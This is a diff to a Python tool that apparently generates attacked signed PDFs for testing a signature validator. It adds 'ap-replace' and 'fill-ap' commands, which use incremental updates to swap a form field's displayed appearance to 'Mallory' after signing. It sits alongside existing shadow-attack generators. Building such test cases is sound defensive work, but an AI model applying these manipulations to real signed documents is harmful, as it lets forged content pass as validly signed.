@@ -33,6 +33,13 @@ exactly as an attacker would do after the document was signed.
   mkattack.py fill IN OUT           form filling: a later revision sets
                                      the text field's /V (allowed unless
                                      DocMDP P=1)
+  mkattack.py ap-replace IN OUT     a later revision points the text
+                                     field's /AP /N at a new appearance
+                                     stream showing other text; /V stays
+                                     (issue 18: not form filling)
+  mkattack.py fill-ap IN OUT        form filling with an appearance: /V
+                                     and /AP change together (allowed
+                                     unless DocMDP P=1)
   mkattack.py bytes-after IN OUT    the page content changed in a revision
                                      appended after the signed one, without
                                      a new xref (junk after %%EOF)
@@ -388,6 +395,46 @@ def cmd_fill(a):
     open(a.out, "wb").write(u.build())
 
 
+def text_field(data):
+    m = None
+    for m in re.finditer(rb"(\d+)\s+0\s+obj\s*<<\s*/FT\s*/Tx", data):
+        pass
+    if m is None:
+        die("no text field")
+    return int(m.group(1))
+
+
+def appearance(u, text):
+    body = b"/Tx BMC BT /F1 12 Tf 0 g 2 5 Td (" + text + b") Tj ET EMC"
+    n = u.alloc()
+    u.put(n, b"<</Type /XObject /Subtype /Form /BBox [0 0 280 20] "
+          b"/Resources <</Font <</F1 8 0 R>>>> /Length %d>>\nstream\n" % len(body)
+          + body + b"\nendstream")
+    return n
+
+
+def set_ap(body, ap):
+    body = re.sub(rb"/AP\s*(<<[^>]*>>|\d+\s+0\s+R)", b"", body)
+    return body[:-2] + b"/AP <</N %d 0 R>>>>" % ap
+
+
+def cmd_ap_replace(a):
+    data = open(a.inp, "rb").read()
+    u = Update(data)
+    num = text_field(data)
+    u.put(num, set_ap(obj_body(data, num), appearance(u, b"Mallory")))
+    open(a.out, "wb").write(u.build())
+
+
+def cmd_fill_ap(a):
+    data = open(a.inp, "rb").read()
+    u = Update(data)
+    num = text_field(data)
+    body = re.sub(rb"/V\s*\([^)]*\)", b"/V (Mallory)", obj_body(data, num))
+    u.put(num, set_ap(body, appearance(u, b"Mallory")))
+    open(a.out, "wb").write(u.build())
+
+
 def cmd_bytes_after(a):
     data = open(a.inp, "rb").read()
     # A replacement content stream after %%EOF, without xref: viewers that
@@ -415,7 +462,8 @@ def main():
             "shadow-hide-replace": cmd_shadow_hide_replace,
             "shadow-font": cmd_shadow_font, "overlap": cmd_overlap,
             "bytes-after": cmd_bytes_after, "unsign": cmd_unsign,
-            "mkform": cmd_mkform, "fill": cmd_fill}
+            "mkform": cmd_mkform, "fill": cmd_fill,
+            "ap-replace": cmd_ap_replace, "fill-ap": cmd_fill_ap}
     if a.cmd not in cmds:
         die("unknown command %s" % a.cmd)
     if a.cmd == "sign" and (not a.cert or not a.key):
